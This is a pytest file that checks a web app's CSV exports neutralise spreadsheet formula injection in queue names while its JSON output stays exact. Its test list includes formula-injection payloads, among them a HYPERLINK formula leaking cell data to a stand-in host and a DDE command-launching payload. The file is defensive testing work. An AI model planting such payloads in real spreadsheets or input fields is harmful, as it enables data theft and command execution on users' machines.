"""CSV formula injection (issue 13, item 7).

Queue names are Freshchat group names: free text any Freshchat admin can type. A cell
that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return is read as a formula by
spreadsheet programs, so every CSV the app writes (page export, API, CLI) prefixes such a
cell with ``'`` as OWASP recommends; JSON, which no spreadsheet evaluates, stays exact.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta

import pytest

from tests.conftest import TEST_API_URL, add_integration, make_test_app
from webapp.changes import ChatChange
from webapp.chats import apply_changes, refresh_groups
from webapp.extensions import db
from webapp.stats import csv_cell

ARRIVED = datetime(2026, 11, 16, 8, 5)
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Support")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tTabbed",
    "\rReturned",
]
PLAIN = "Customer Support"


@pytest.mark.parametrize("name", DANGEROUS)
def test_a_cell_read_as_a_formula_is_neutralised(name):
    assert csv_cell(name) == "'" + name


@pytest.mark.parametrize("value", [PLAIN, "Sales - EU", "", "Undefined_Queue", "1", 5])
def test_other_cells_are_left_as_they_are(value):
    assert csv_cell(value) == value


@pytest.fixture
def app(tmp_path):
    """The usual test app, its "now" pinned a few days after the chats (any calendar day)."""
    application = make_test_app(
        tmp_path, FRESHCHAT_API_URL=TEST_API_URL, CLOCK=lambda: ARRIVED + timedelta(days=4)
    )
    yield application
    db.initialize(None)


@pytest.fixture
def seeded(app, admin_client):
    integration_id = add_integration(app, "Acme", "acme.freshchat.com", "k-1234")
    names = [PLAIN, *DANGEROUS]
    with app.app_context(), db.connection_context():
        refresh_groups(
            integration_id, [{"id": f"g{n}", "name": name} for n, name in enumerate(names)]
        )
        changes = []
        for n in range(len(names)):
            resolved = ARRIVED + timedelta(hours=1)
            changes += [
                ChatChange(
                    f"c{n}", at=ARRIVED, created_time=ARRIVED, status="new", group_id=f"g{n}"
                ),
                ChatChange(f"c{n}", at=resolved, resolved_time=resolved, status="resolved"),
            ]
        apply_changes(integration_id, changes)
    return integration_id, names


def _queues_in_csv(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["queue", "interval_start", "contacts"]
    return sorted(row[0] for row in rows[1:])


def _queues_in_json(text: str) -> list[str]:
    return sorted(item["queue"] for item in json.loads(text))


def _expected_csv(names: list[str]) -> list[str]:
    return sorted(name if name == PLAIN else "'" + name for name in names)


def test_page_export_api_and_cli_neutralise_formulas_in_csv_only(app, admin_client, seeded):
    integration_id, names = seeded
    page = f"/integrations/{integration_id}/stats/export?from=2026-11-16&to=2026-11-16"
    api = f"/api/v1/integrations/{integration_id}/intervals?from=2026-11-16&to=2026-11-17"
    cli = ["stats", "Acme", "--from", "2026-11-16", "--to", "2026-11-17"]
    runner = app.test_cli_runner()

    texts = {
        "page": admin_client.get(page + "&format=csv").get_data(as_text=True),
        "api": admin_client.get(api + "&format=csv").get_data(as_text=True),
        "cli": runner.invoke(args=[*cli, "--format", "csv"]).output,
    }
    for door, text in texts.items():
        assert _queues_in_csv(text) == _expected_csv(names), door
        for name in DANGEROUS:
            assert f"\n{name}" not in text and f'\n"{name}' not in text, (door, name)

    exact = {
        "page": admin_client.get(page + "&format=json").get_data(as_text=True),
        "api": admin_client.get(api + "&format=json").get_data(as_text=True),
        "cli": runner.invoke(args=[*cli, "--format", "json"]).output,
    }
    for door, text in exact.items():
        assert _queues_in_json(text) == sorted(names), door
